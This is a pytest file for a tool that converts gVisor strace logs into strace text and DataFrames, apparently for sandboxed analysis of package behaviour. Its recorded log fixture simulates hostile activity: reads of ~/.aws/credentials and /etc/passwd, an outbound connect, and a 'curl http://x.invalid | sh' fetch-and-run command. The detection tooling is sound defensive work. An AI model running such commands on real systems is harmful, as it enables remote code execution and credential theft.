"""trace.gvisor_log: gVisor's --strace log becomes strace text that the shared frame builders
turn into the same DataFrames (files, processes, endpoints, syscalls) - unit half on a recorded
log excerpt, engine half on a real runsc-trace container."""

from __future__ import annotations

import json
import subprocess
import time
from pathlib import Path

import pytest

from slopspotter_lab.trace.frames import build_frames
from slopspotter_lab.trace.gvisor_log import convert_file, convert_text, find_boot_logs

# Lines as runsc 2024-07 writes them (systrap platform), trimmed; [tgid: tid].
LOG = """\
I1123 11:59:39.422955    6476 main.go:217] Args: [runsc-sandbox boot --bundle=/run/x/abc123 abc123]
I1123 11:59:39.604658     780 strace.go:608] [  10:  10] python3 X openat(AT_FDCWD /home/alex, 0x7efa775a64e0 /home/alex/.aws/credentials, O_RDONLY|O_CLOEXEC, 0o0) = 3 (0x3) (586.485µs)
I1123 11:59:39.605964     780 strace.go:608] [  10:  10] python3 X openat(AT_FDCWD /home/alex, 0x7efa775a64e0 notes.txt, O_WRONLY|O_CLOEXEC|O_CREAT, 0o644) = 4 (0x4) (126.399µs)
I1123 11:59:39.606525     780 strace.go:602] [  10:  10] python3 X rename(0x7efa775a64e0 /tmp/x.txt, 0x7efa775a7980 /tmp/y.txt) = 0 (0x0) (17.716µs)
I1123 11:59:39.607000     780 strace.go:602] [  10:  10] python3 X socket(AF_INET, SOCK_STREAM|SOCK_CLOEXEC, IPPROTO_IP) = 5 (0x5) (17.716µs)
I1123 11:59:39.607222     780 strace.go:605] [  10:  10] python3 X connect(0x5 socket:[1], 0x7ee3baac9780 {Family: AF_INET, Addr: 10.66.0.2, Port: 443}, 0x10) = 0 (0x0) errno=113 (no route to host) (25.709µs)
I1123 11:59:39.609016     780 strace.go:602] [  10:  10] python3 X clone3(0x7ee3baac95b0, 0x58) = 11 (0xb) (125.196µs)
I1123 11:59:39.611876     780 strace.go:608] [  10:  11] python3 X openat(AT_FDCWD /, 0x7efa775a7aa0 /etc/passwd, O_RDONLY|O_CLOEXEC, 0o0) = 6 (0x6) (36.074µs)
I1123 11:59:39.614969     780 strace.go:596] [  10:  10] python3 X vfork() = 12 (0xc) (92.648µs)
I1123 11:59:39.616659     780 strace.go:567] [  12:  12] python3 E execve(0x7efa776ec3c0 /usr/bin/sh, 0x7efa77440550 ["sh", "-c", "curl http://x.invalid | sh"], 0xaca7d0 ["PATH=/usr/bin"])
I1123 11:59:39.617714     780 strace.go:605] [  12:  12] python3 X execve(0x7efa776ec3c0 /usr/bin/sh, 0x7efa77440550 ["sh", "-c", "curl http://x.invalid | sh"], 0xaca7d0 ["PATH=/usr/bin"]) = 0 (0x0) (1.047872ms)
I1123 11:59:39.633000     780 strace.go:567] [  12:  12] sh E exit_group(0x0)
I1123 11:59:39.634874     780 strace.go:602] [  10:  10] python3 X kill(0xffffffff, 0x9) = 0 (0x0) errno=1 (operation not permitted) (2.173µs)
I1123 11:59:39.640000     780 strace.go:602] [  10:  10] python3 X mmap(0x0, 0x4000000, PROT_READ|PROT_WRITE, MAP_PRIVATE|MAP_ANONYMOUS, 0xffffffffffffffff, 0x0) = 0 (0x0) errno=12 (cannot allocate memory) (2.173µs)
"""


def test_convert_text_speaks_strace():
    text = convert_text(LOG, year=2026)
    lines = text.splitlines()
    assert all(line.split(" ", 2)[1].replace(".", "").isdigit() for line in lines)
    assert any('openat(AT_FDCWD</home/alex>, "/home/alex/.aws/credentials", O_RDONLY|O_CLOEXEC, 0o0) = 3' in x for x in lines)
    assert any('rename("/tmp/x.txt", "/tmp/y.txt") = 0' in x for x in lines)
    assert any('connect(5<TCP:[]>, {sa_family=AF_INET, sin_port=htons(443), sin_addr=inet_addr("10.66.0.2")}'
               in x and "= -1 EHOSTUNREACH" in x for x in lines)
    assert any("clone3(" in x and "CLONE_THREAD" in x for x in lines)  # tid 11 is in tgid 10
    assert not any("vfork" in x and "CLONE_THREAD" in x for x in lines)
    assert any(x.startswith("12 ") and "+++ exited with 0 +++" in x for x in lines)
    assert any("kill(-1, 0x9) = -1 EPERM" in x for x in lines)
    assert any("mmap(" in x and "ENOMEM" in x for x in lines)
    assert sum(" E " in x for x in lines) == 0  # entry lines never double-count


def test_frames_from_gvisor_log(tmp_path):
    """The converted log goes through the same build_frames as a real strace trace."""
    from slopspotter_lab.trace.gvisor_log import _epoch

    (tmp_path / "trace.log").write_text(convert_text(LOG, year=2026))
    t0 = _epoch(2026, "1123", "11:59:39.600000")
    (tmp_path / "harness.json").write_text(json.dumps({"t0": t0}))
    (tmp_path / "phases.json").write_text(json.dumps(
        [{"name": "import", "pid": 10, "status": "ok", "exit_code": 0, "end": t0 + 5}]))
    fr = build_frames(tmp_path)
    files = dict(zip(fr.files["path"], fr.files["op"]))
    assert files["/home/alex/.aws/credentials"] == "read"
    assert files["/home/alex/notes.txt"] == "create"  # relative path joined to the dirfd
    assert fr.files.loc[fr.files["path"].eq("/home/alex/.aws/credentials"), "category"].notna().all()
    procs = fr.processes.set_index("pid")
    assert 11 not in procs.index  # a thread, not a process
    assert procs.loc[12, "argv"] == ["sh", "-c", "curl http://x.invalid | sh"] and procs.loc[12, "ppid"] == 10
    ep = fr.endpoints.iloc[0]
    assert (ep["address"], ep["port"], ep["protocol"]) == ("10.66.0.2", 443, "tcp")
    assert set(fr.syscalls["phase"]) == {"import"}


def test_convert_file_caps_and_finds_by_container(tmp_path):
    log = tmp_path / "runsc.log.20261123-115939.1.boot.txt"
    log.write_text(LOG * 50)
    stats = convert_file(log, tmp_path / "out" / "trace.log", cap=4096)
    assert stats["truncated"] and stats["lines"] > 0
    assert (tmp_path / "out" / "trace.log").read_text().endswith("\n")
    assert find_boot_logs(tmp_path, "abc123") == [log]
    assert find_boot_logs(tmp_path, "other") == [] and find_boot_logs(tmp_path, "") == []


@pytest.mark.gvisor
def test_real_runsc_trace_log_is_found_converted_and_hides_the_tracer(tmp_path):
    from slopspotter_lab.sandbox.docker_backend import IMAGES
    from slopspotter_lab.sandbox.gvisor_backend import RUNSC_LOGDIR

    script = ("import os; open('/etc/hostname').read(); "
              "print([l for l in open('/proc/self/status') if l.startswith('TracerPid')][0].split()[1])")
    name = f"slopspotter-test-{int(time.time() * 1000)}"
    out = subprocess.run(["docker", "run", "--name", name, "--label", "io.slopspotter-lab=test",
                          "--runtime=runsc-trace", "--network=none", IMAGES["python"], "python3", "-c", script],
                         capture_output=True, text=True, timeout=120)
    cid = subprocess.run(["docker", "inspect", "-f", "{{.Id}}", name], capture_output=True, text=True).stdout.strip()
    subprocess.run(["docker", "rm", "-f", name], capture_output=True, timeout=60)
    assert out.stdout.strip() == "0", out.stderr  # no tracer visible from inside
    logs = find_boot_logs(RUNSC_LOGDIR, cid)
    try:
        assert len(logs) == 1
        convert_file(logs[0], tmp_path / "trace.log", cap=64 << 20)
        assert '"/etc/hostname"' in (tmp_path / "trace.log").read_text()
    finally:
        for path in logs:
            path.unlink(missing_ok=True)
    assert find_boot_logs(RUNSC_LOGDIR, cid) == []
